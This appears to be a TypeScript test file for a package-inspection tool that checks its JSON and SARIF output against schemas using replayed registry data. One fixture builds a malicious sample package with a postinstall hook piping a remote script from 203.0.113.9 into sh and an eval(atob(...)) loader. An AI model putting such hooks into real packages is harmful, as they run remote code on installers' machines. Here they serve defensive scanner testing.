import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";

import { buildPackage, startReplay } from "@lockkeeper/drill";
import { describe, expect, onTestFinished, test } from "vitest";

import { createFakeTerminal } from "../test/fake-environment.ts";
import type { FakeTerminal } from "../test/fake-environment.ts";
import { problemsBySchema } from "../test/json-schema.ts";
import {
  comparisonLineSchema,
  failureLineSchema,
  inspectionLineSchema,
  inspectLinesSchema,
} from "./inspection-schema.ts";

const night = "2026-03-31T01:10:00Z";
const root = new URL("../../../", import.meta.url);

async function readJson(path: string): Promise<unknown> {
  return JSON.parse(await readFile(new URL(path, root), "utf8"));
}

interface Night {
  readonly terminal: FakeTerminal;
  /** Runs a command on the night's registry. */
  run(...argv: readonly string[]): ReturnType<FakeTerminal["run"]>;
}

async function openNight(): Promise<Night> {
  const replay = await startReplay({ campaign: "axios-2026", at: Date.parse(night) });
  onTestFinished(() => replay.close());
  const terminal = await createFakeTerminal({ now: night });
  return {
    terminal,
    run: (...argv) => terminal.run(...argv, "--upstream", replay.url, "--at", night),
  };
}

/** What makes lines differ: a suppression, a policy, a tarball, a file that is none. */
async function furnish({ folder }: FakeTerminal): Promise<void> {
  const { tarball } = buildPackage(
    { name: "own", version: "1.0.0", scripts: { postinstall: "curl -s http://203.0.113.9/s | sh" } },
    [{ path: "index.js", content: "eval(atob(process.env.X));\n" }],
  );
  await writeFile(join(folder, "own.tgz"), tarball);
  await writeFile(join(folder, "text.tgz"), "no archive");
  await writeFile(
    join(folder, "package-lock.json"),
    JSON.stringify({ lockfileVersion: 3, packages: { "node_modules/axios": { version: "1.14.0" } } }),
  );
  await writeFile(
    join(folder, "lockkeeper.suppressions.yaml"),
    'version: 1\nsuppressions:\n  - { finding: publisher-change, package: "axios@1.14.1", reason: known, owner: alice, expires: 2026-12-31 }\n',
  );
  await writeFile(join(folder, "lockkeeper.policy.yaml"), "version: 1\ninspect: { effect: block }\n");
}

describe("docs/inspect.schema.json", () => {
  test("docs/inspect.schema.json is what the lines are held to", async () => {
    expect(await readJson("docs/inspect.schema.json")).toEqual(inspectLinesSchema);
  });

  test("docs/inspect.schema.json fits every line of inspect: let in, withheld, undecided, from disk, from a lockfile", async () => {
    const { terminal, run } = await openNight();
    await furnish(terminal);

    const named = [
      "axios@1.14.1",
      "axios@1.14.0",
      "nosuch",
      "axios@9",
      "own.tgz",
      "text.tgz",
      "git+ssh://a.example/b",
    ];
    const { lines } = await run("inspect", ...named, "--lockfile", "package-lock.json", "--json");

    expect(lines).toHaveLength(named.length + 1);
    expect(new Set(lines.map(({ verdict }) => verdict))).toEqual(new Set(["block", "allow", "unknown"]));
    expect(lines.flatMap((line) => problemsBySchema(line, inspectionLineSchema))).toEqual([]);
    expect(lines.flatMap((line) => problemsBySchema(line, inspectLinesSchema))).toEqual([]);
    expect(JSON.stringify(lines)).toContain('"owner":"alice"');
  });

  test("docs/inspect.schema.json fits the line of diff, of a registry's versions and of local files", async () => {
    const { terminal, run } = await openNight();
    await furnish(terminal);

    const listed = await run("diff", "axios", "1.14.0", "1.14.1", "--json");
    const local = await run("diff", "axios@1.14.0", "own.tgz", "--json");

    const lines = [...listed.lines, ...local.lines];
    expect(lines).toHaveLength(2);
    expect(lines.flatMap((line) => problemsBySchema(line, comparisonLineSchema))).toEqual([]);
    expect(lines.flatMap((line) => problemsBySchema(line, inspectLinesSchema))).toEqual([]);
    expect(listed.lines.flatMap((line) => problemsBySchema(line, inspectionLineSchema))).not.toEqual([]);
  });

  test.each([
    ["a flag that is wrong", ["inspect", "axios@1.14.0", "--budget", "soon", "--json"], 2],
    ["a policy that is not there", ["inspect", "axios@1.14.0", "--policy", "nosuch.yaml", "--json"], 2],
    ["a version that cannot be compared", ["diff", "axios@1.14.0", "axios@9.9.9", "--json"], 3],
  ] as const)("docs/inspect.schema.json fits the last line after %s", async (_what, argv, code) => {
    const { run } = await openNight();

    const result = await run(...argv);

    expect(result.code).toBe(code);
    expect(result.lines).toHaveLength(1);
    expect(result.lines.flatMap((line) => problemsBySchema(line, failureLineSchema))).toEqual([]);
    expect(result.lines.flatMap((line) => problemsBySchema(line, inspectLinesSchema))).toEqual([]);
  });
});

describe("inspect --format sarif", () => {
  test("inspect --format sarif fits the schema of SARIF 2.1.0, and names the line of package.json", async () => {
    const schema = await readJson("third-party/schemas/sarif-2.1.0-rtm.5.json");
    const { terminal, run } = await openNight();
    await furnish(terminal);
    const named = ["axios@1.14.1", "nosuch", "own.tgz"];
    const flags = ["--lockfile", "package-lock.json", "--format", "sarif", "--show-all"];

    const { out } = await run("inspect", ...named, ...flags);

    const log: unknown = JSON.parse(out);
    expect(problemsBySchema(log, schema)).toEqual([]);
    expect(log).toMatchObject({ runs: [{ invocations: [{ executionSuccessful: false }] }] });
    expect(out).toMatch(
      /"uri": "package\.json",\s+"uriBaseId": "axios@1\.14\.1"\s+\},\s+"region": \{\s+"startLine": 23/,
    );
  });

  test("the schema of SARIF 2.1.0 is one that refuses", async () => {
    const schema = await readJson("third-party/schemas/sarif-2.1.0-rtm.5.json");

    expect(problemsBySchema({ version: "2.1.0", runs: [{ tool: {} }] }, schema)).toEqual([
      "$.runs[0].tool.driver is missing",
    ]);
    expect(problemsBySchema({ version: "2.0.0", runs: [], more: 1 }, schema)).toEqual([
      "$.more is not foreseen",
      "$.version is not in the list",
    ]);
  });
});
